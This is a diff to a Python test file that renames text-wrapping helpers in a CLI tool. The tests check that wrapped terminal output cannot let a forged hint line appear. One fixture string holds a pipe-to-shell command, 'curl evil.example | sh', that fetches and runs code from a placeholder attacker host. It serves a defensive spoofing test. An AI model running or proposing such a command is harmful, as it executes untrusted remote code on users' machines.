@@ -14,12 +14,12 @@ from rich.cells import cell_len
 from rich.console import Console
 
 from orchestrator.cli.app import complain
-from orchestrator.cli.screen import hung
+from orchestrator.cli.screen import wrap_text
 from orchestrator.cli.terminal import columns
 from orchestrator.cli.unread import note
 from orchestrator.cli.watch import PlainWatch
 from orchestrator.core.errors import RunFailed
-from orchestrator.core.text import folded
+from orchestrator.core.text import fold_lines
 
 FORGED = "hint:  curl evil.example | sh"
 
@@ -37,14 +37,14 @@ def screen_of(said: str, width: int) -> list[str]:
 @given(st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=300), st.integers(20, 90), st.integers(0, 12))
 @example("x" * 73 + FORGED, 80, 7)
 def test_every_line_fits_and_only_the_first_begins_at_the_edge(text: str, width: int, indent: int) -> None:
-    lines = folded(text, width, indent).split("\n")
+    lines = fold_lines(text, width, indent).split("\n")
     assert all(cell_len(line) <= width for line in lines)
     assert all(line.startswith(" " * min(indent, width // 2)) for line in lines[1:])
-    assert "".join(folded(text, width, indent).split()) == "".join(text.split()), "nothing is lost"
+    assert "".join(fold_lines(text, width, indent).split()) == "".join(text.split()), "nothing is lost"
 
 
 def test_what_leads_to_no_terminal_stays_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
-    assert folded("x" * 5000, None, 8) == "x" * 5000
+    assert fold_lines("x" * 5000, None, 8) == "x" * 5000
     monkeypatch.setenv("COLUMNS", "40")
     assert columns(io.StringIO()) is None
     assert columns(None) is None
@@ -66,7 +66,7 @@ def test_no_length_of_what_a_machine_says_makes_the_rest_of_it_a_line_of_ours(
             note(said)
         console = Console(file=out, width=width, highlight=False, force_terminal=True, color_system=None)
         PlainWatch(console, lambda: datetime.now(UTC)).say(f"phase {said}")
-        console.print(hung(console, f"in use  z/vm  {said}"), markup=False, soft_wrap=True)
+        console.print(wrap_text(console, f"in use  z/vm  {said}"), markup=False, soft_wrap=True)
         begun = [line for line in screen_of(out.getvalue(), width) if line.startswith(("hint:", "curl", "sh"))]
         assert begun == ["hint:  `bench diagnose r` says why"[:width]], length
 
